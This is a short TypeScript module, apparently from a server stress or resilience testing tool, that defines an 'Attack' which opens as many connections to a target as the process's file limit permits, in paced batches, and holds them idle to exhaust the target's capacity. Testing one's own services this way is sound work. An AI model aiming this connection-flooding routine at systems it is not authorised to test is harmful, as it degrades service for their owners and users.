import { readFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { countEach, watchWire } from './attack-wire.ts';

const batch = 200;
const pauseMs = 10;
const heldForMs = 3_000;

/** Left for everything else that this process opens. */
const spareFiles = 500;

/** `size` connections, or as many as this process may have, from one address on which nothing is asked. */
export const holdConnections: Attack = async (target, { size }) => {
  const wires = [];
  const most = Math.min(size, readOpenFileLimit() - spareFiles);
  for (let count = 0; count < most; count++) {
    wires.push(watchWire(target));
    if (count % batch === batch - 1) await sleep(pauseMs);
  }
  await sleep(heldForMs);
  return countEach(wires.map(({ outcome }) => outcome()));
};

/** Node raises its limit as far as it may. */
function readOpenFileLimit(): number {
  const limits = readFileSync('/proc/self/limits', 'utf8');
  return Number(/^Max open files\s+(\d+)/mu.exec(limits)?.[1]);
}
